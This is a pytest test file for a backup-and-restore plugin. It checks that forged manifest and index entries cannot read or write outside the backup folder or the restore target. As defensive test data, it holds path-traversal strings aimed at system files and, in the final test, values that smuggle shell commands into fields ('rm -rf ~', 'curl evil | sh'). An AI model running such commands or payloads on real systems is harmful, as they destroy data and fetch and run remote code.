"""Path confinement of backup and restore: every path read from a backup (MANIFEST.json keys,
configs/index.json entries) stays inside the backup folder, every path restore writes stays inside its
target, and restore reads only what the manifest lists. Each case is refused before anything is written,
and ``backup verify`` fails on it too."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from aetherops_plugins.backup.paths import UnsafePathError, check_relpath, safe_join

from .test_backup_kit import forge_manifest, make_configs_backup, manifest, one_error_line, set_index, tree, write_listed

posix_only = pytest.mark.skipif(os.name != "posix", reason="symlinks need privileges on Windows")

# ----------------------------------------------------------------------------- the helper itself
UNSAFE_RELPATHS = [
    ("..", "'..' component"),
    ("../x", "'..' component"),
    ("a/../../x", "'..' component"),
    ("a\\..\\..\\x", "'..' component"),
    ("a/./b", "'.' component"),
    ("a//b", "'empty' component"),
    ("", "empty"),
    ("/etc/passwd", "absolute"),
    ("\\Windows\\win.ini", "absolute"),
    ("//host/share/x", "UNC"),
    ("\\\\host\\share\\x", "UNC"),
    ("C:\\x", "drive"),
    ("C:x", "drive"),
    ("c:/x", "drive"),
    ("a/D:evil", "drive"),
    ("a\x00b", "NUL"),
]


@pytest.mark.parametrize("relpath, reason", UNSAFE_RELPATHS)
def test_check_relpath_refuses(relpath, reason):
    with pytest.raises(UnsafePathError, match=reason):
        check_relpath(relpath)


@pytest.mark.parametrize("relpath, parts", [("a/b.json", ("a", "b.json")), ("a\\b\\c", ("a", "b", "c")),
                                            ("..a/b..", ("..a", "b..")), ("x y/é.yml", ("x y", "é.yml"))])
def test_check_relpath_accepts_plain_relative_paths(relpath, parts):
    assert check_relpath(relpath).parts == parts


@posix_only
def test_safe_join_refuses_a_symlink_component(tmp_path):
    (tmp_path / "root").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "root" / "link").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "root" / "file-link").symlink_to(tmp_path / "elsewhere" / "x")
    for rel in ("link/x", "link", "file-link"):
        with pytest.raises(UnsafePathError, match="symlink"):
            safe_join(tmp_path / "root", rel)
    assert safe_join(tmp_path / "root", "sub/x") == tmp_path / "root" / "sub" / "x"


# ----------------------------------------------------------------------------- crafted backups
@pytest.fixture
def crafted(aetherops_cli, profile_factory, tmp_path, monkeypatch):
    """A real configs backup under tmp_path/b, a restore target tmp_path/out and a folder outside both
    holding a file an attacker would like to read (or overwrite)."""
    monkeypatch.chdir(tmp_path)
    folder = make_configs_backup(aetherops_cli, profile_factory, tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("not for the backup\n", encoding="utf-8")
    return folder


def _state(folder: Path) -> Path:
    return folder.parent / ".aetherops-backups.json"


def _assert_refused_and_nothing_written(cli, folder: Path, root: Path, *extra: str) -> str:
    before = tree(root, skip=(_state(folder),))
    result = cli("restore", str(folder), "--only", "configs", "--configs-to", str(root / "out"), *extra)
    assert result.exit_code in (1, 4), result
    line = one_error_line(result.stderr)
    assert tree(root, skip=(_state(folder),)) == before  # nothing written anywhere, not even in out/
    assert not (root / "out").exists()
    return line


INDEX_ESCAPES = [
    "files/../../escape.yml",
    "../escape.yml",
    "files/mon/../../../escape.yml",
    "files\\..\\..\\escape.yml",
    "C:\\escape.yml",
    "C:escape.yml",
    "\\\\host\\share\\escape.yml",
    "//host/share/escape.yml",
    "escape.yml",  # not under files/
]


@pytest.mark.parametrize("file", INDEX_ESCAPES)
def test_crafted_index_entry_is_refused_by_restore_and_verify(crafted, aetherops_cli, tmp_path, file):
    # the attacker places the source where the entry points and lists it, so checksums pass
    write_listed(crafted, "escape.yml", b"owned: true\n")
    original = str(tmp_path / "mon" / "prometheus.yml")
    set_index(crafted, [{"file": file, "original": original, "glob": "mon/*.yml", "mode": "0o644"}])
    line = _assert_refused_and_nothing_written(aetherops_cli, crafted, tmp_path)
    assert "index.json" in line
    verify = aetherops_cli("backup", "verify", str(crafted), "-o", "json")
    assert verify.exit_code == 1 and any("index.json" in u for u in verify.json()["unsafe"]), verify


def test_index_entry_naming_an_absolute_file_outside_is_refused(crafted, aetherops_cli, tmp_path):
    secret = tmp_path / "outside" / "secret.txt"
    set_index(crafted, [{"file": str(secret), "original": str(secret), "glob": "x", "mode": "0o644"}])
    line = _assert_refused_and_nothing_written(aetherops_cli, crafted, tmp_path)
    assert "absolute" in line


def test_index_entry_for_a_file_the_manifest_does_not_list_is_refused(crafted, aetherops_cli, tmp_path):
    (crafted / "configs/files/mon/unlisted.yml").write_text("never: checksummed\n", encoding="utf-8")
    set_index(crafted, [{"file": "files/mon/unlisted.yml", "original": str(tmp_path / "mon/unlisted.yml")}])
    _assert_refused_and_nothing_written(aetherops_cli, crafted, tmp_path)
    verify = aetherops_cli("backup", "verify", str(crafted), "-o", "json").json()
    assert any("not listed in MANIFEST.json" in u for u in verify["unsafe"])


@pytest.mark.parametrize("original", ["relative/prometheus.yml", "/etc/../etc/passwd", "C:\\..\\x"])
def test_index_original_must_be_a_plain_absolute_path(crafted, aetherops_cli, tmp_path, original):
    entries = json.loads((crafted / "configs/index.json").read_text(encoding="utf-8"))["files"]
    entries[0]["original"] = original
    set_index(crafted, entries)
    verify = aetherops_cli("backup", "verify", str(crafted), "-o", "json")
    assert verify.exit_code == 1 and any("original" in u for u in verify.json()["unsafe"]), verify


MANIFEST_ESCAPES = ["../outside/secret.txt", "configs/../../outside/secret.txt", "configs\\..\\..\\outside\\secret.txt",
                    "/etc/hostname", "C:\\Windows\\win.ini", "C:x", "//host/share/x", "configs//x"]


@pytest.mark.parametrize("rel", MANIFEST_ESCAPES)
def test_unsafe_manifest_entry_fails_verify_and_restore(crafted, aetherops_cli, tmp_path, rel):
    forge_manifest(crafted, {rel: b"not for the backup\n"})
    verify = aetherops_cli("backup", "verify", str(crafted), "-o", "json")
    assert verify.exit_code == 1, verify
    assert [u for u in verify.json()["unsafe"] if "MANIFEST entry" in u], verify.json()
    line = _assert_refused_and_nothing_written(aetherops_cli, crafted, tmp_path)
    assert "fails verification" in line and "unsafe" in line


@posix_only
def test_symlinked_folder_in_the_backup_is_refused_even_when_checksums_match(crafted, aetherops_cli, tmp_path):
    # configs/files/mon -> a folder outside with byte-identical files: every hash still matches
    real = crafted / "configs/files/mon"
    twin = tmp_path / "outside" / "mon"
    real.rename(twin)
    real.symlink_to(twin, target_is_directory=True)
    verify = aetherops_cli("backup", "verify", str(crafted), "-o", "json")
    assert verify.exit_code == 1 and any("symlink" in u for u in verify.json()["unsafe"]), verify
    line = _assert_refused_and_nothing_written(aetherops_cli, crafted, tmp_path)
    assert "symlink" in line


@posix_only
def test_symlinked_manifest_is_not_a_backup(crafted, aetherops_cli, tmp_path):
    real = crafted / "MANIFEST.json"
    copy = tmp_path / "outside" / "MANIFEST.json"
    copy.write_bytes(real.read_bytes())
    real.unlink()
    real.symlink_to(copy)
    verify = aetherops_cli("backup", "verify", str(crafted), "-o", "json")
    assert verify.exit_code == 1 and "symlink" in verify.json()["error"], verify


@posix_only
def test_configs_to_with_a_symlink_inside_is_refused_before_writing(crafted, aetherops_cli, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "mon").symlink_to(tmp_path / "outside", target_is_directory=True)
    before = tree(tmp_path / "outside")
    result = aetherops_cli("restore", str(crafted), "--only", "configs", "--configs-to", str(out))
    assert result.exit_code == 4, result
    assert "symlink" in one_error_line(result.stderr)
    assert tree(tmp_path / "outside") == before


def test_force_writes_only_where_the_target_profiles_globs_point(crafted, aetherops_cli, tmp_path):
    victim = tmp_path / "outside" / "secret.txt"
    entries = json.loads((crafted / "configs/index.json").read_text(encoding="utf-8"))["files"]
    entries[0]["original"] = str(victim)  # a plain absolute path: verify cannot know the profile's globs
    set_index(crafted, entries)
    assert aetherops_cli("backup", "verify", str(crafted)).exit_code == 0
    before = tree(tmp_path, skip=(_state(crafted),))
    result = aetherops_cli("restore", str(crafted), "--only", "configs", "--force")
    assert result.exit_code == 4, result
    assert "backup.configs globs" in one_error_line(result.stderr)
    assert tree(tmp_path, skip=(_state(crafted),)) == before
    # the genuine entry still restores over its original with --force
    (tmp_path / "mon/prometheus.yml").write_text("changed: 1\n", encoding="utf-8")
    good = make_configs_backup(aetherops_cli, lambda *a, **k: None, tmp_path, files={})
    (tmp_path / "mon/prometheus.yml").write_text("changed: 2\n", encoding="utf-8")
    ok = aetherops_cli("restore", str(good), "--only", "configs", "--force")
    assert ok.exit_code == 0, ok
    assert (tmp_path / "mon/prometheus.yml").read_text(encoding="utf-8") == "changed: 1\n"


def test_restore_job_reads_only_listed_files(tmp_path):
    from aetherops_plugins.backup.api import RestoreJob

    (tmp_path / "loki").mkdir()
    (tmp_path / "loki/listed.json").write_text("{}", encoding="utf-8")
    (tmp_path / "loki/unlisted.json").write_text("{}", encoding="utf-8")
    job = RestoreJob("loki", tmp_path / "loki", {"files": {"loki/listed.json": {}}}, None, None)
    assert job.exists("listed.json") and job.read_json("listed.json") == {}
    assert not job.exists("unlisted.json")
    with pytest.raises(UnsafePathError, match="not listed in MANIFEST.json"):
        job.read_json("unlisted.json")
    with pytest.raises(UnsafePathError):
        job.read_json("../loki/listed.json")


def test_a_genuine_backup_still_verifies_and_restores(crafted, aetherops_cli, tmp_path):
    assert aetherops_cli("backup", "verify", str(crafted)).exit_code == 0
    assert set(manifest(crafted)["files"]) >= {"configs/index.json", "configs/files/mon/prometheus.yml"}
    done = aetherops_cli("restore", str(crafted), "--only", "configs", "--configs-to", str(tmp_path / "out"))
    assert done.exit_code == 0, done
    assert (tmp_path / "out/mon/prometheus.yml").read_text(encoding="utf-8") == (tmp_path / "mon/prometheus.yml").read_text(encoding="utf-8")


@pytest.mark.servers
def test_crafted_dashboard_index_cannot_read_outside_the_component(grafana_double, profile_factory, aetherops_cli, tmp_path, monkeypatch):
    from aetherops.testing.pytest_plugin import GRAFANA_TEST_TOKEN

    grafana_double.seed_demo()
    monkeypatch.setenv("GTOKEN", GRAFANA_TEST_TOKEN)
    monkeypatch.chdir(tmp_path)
    profile_factory("graf", grafana={"url": grafana_double.url, "auth": {"token_env": "GTOKEN"}})
    made = aetherops_cli("-p", "graf", "backup", "--dir", str(tmp_path / "b"), "--only", "grafana", "-o", "json")
    assert made.exit_code == 0, made
    folder = Path(made.json()["path"])
    index = json.loads((folder / "grafana/dashboards.json").read_text(encoding="utf-8"))
    index["dashboards"][0]["file"] = "../MANIFEST.json"  # a listed file, but outside grafana/
    write_listed(folder, "grafana/dashboards.json", json.dumps(index).encode("utf-8"))
    grafana_double.reset()
    before = len(grafana_double.request_log)
    result = aetherops_cli("-p", "graf", "restore", str(folder), "--only", "grafana")
    assert result.exit_code == 4, result
    assert "'..'" in one_error_line(result.stderr)
    assert [r for r in grafana_double.request_log[before:] if r[0] not in ("GET", "HEAD")] == []


@pytest.mark.parametrize("meta, ok", [
    ({"snapshot": "20260105T020000Z-3f1a2b", "data_dir": "/var/lib/prometheus"}, True),
    ({"snapshot": "x'; rm -rf ~; '", "data_dir": "/var/lib/prometheus"}, False),
    ({"snapshot": "../../etc", "data_dir": None}, False),
    ({"snapshot": "20260105T020000Z", "data_dir": "/data'; curl evil | sh; '"}, False),
    ({"snapshot": "20260105T020000Z", "data_dir": "/data\nrm -rf /"}, False),
])
def test_printed_snapshot_commands_never_carry_crafted_values(meta, ok):
    from types import SimpleNamespace

    from aetherops_plugins.backup.api import RestoreJob
    from aetherops_plugins.backup.components.prometheus import PrometheusComponent

    manifest = {"files": {}, "components": {"prometheus": {"meta": {**meta, "snapshot_copied": True}}}}
    profile = SimpleNamespace(section=lambda name: {})
    job = RestoreJob("prometheus", Path("/nonexistent/prometheus"), manifest, None, profile)
    PrometheusComponent().restore(job)
    [item] = [i for i in job.items if i.kind == "snapshot"]
    assert (item.action == "manual") is ok
    printed = "\n".join(job.instructions)
    assert ("rm -rf" not in printed and "curl" not in printed and "../../etc" not in printed)
    assert bool(job.instructions) is ok
